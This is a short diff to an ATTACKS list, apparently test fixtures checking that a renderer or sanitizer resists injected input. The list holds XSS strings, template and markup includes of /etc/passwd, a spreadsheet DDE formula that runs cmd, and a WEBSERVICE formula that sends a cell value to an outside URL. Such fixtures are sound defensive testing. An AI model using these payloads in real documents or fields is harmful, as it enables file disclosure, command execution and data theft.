@@ -53,7 +53,7 @@ ATTACKS = [
     '"><svg onload=alert(1)><style>*{display:none}</style>',
     "</script><script>alert(1)</script>",
     "</title></head><iframe src=https://example.org></iframe>",
-    "{{ 7 * 7 }} {% include '/etc/passwd' %} {# gone #} ${7*7} <%= 7*7 %>",
+    "{{ 7 * 7 }} {% include '/etc/passwd' %} {# gone #} ${7*7} <%= seven %>",
     '#image("/etc/passwd") #sys.inputs #eval("1") @preview',
     '#{panic()} $#read("x")$ \\#',
     "!include /etc/passwd",
@@ -63,7 +63,7 @@ ATTACKS = [
     "@SUM(1+1)*cmd|'/c calc'!A0",
     '=HYPERLINK("https://example.org","click")',
     '=WEBSERVICE("https://example.org/"&A1)',
-    "\tTAB=1+1",
+    "\t=1+1 behind a tab",
 ]
 
 
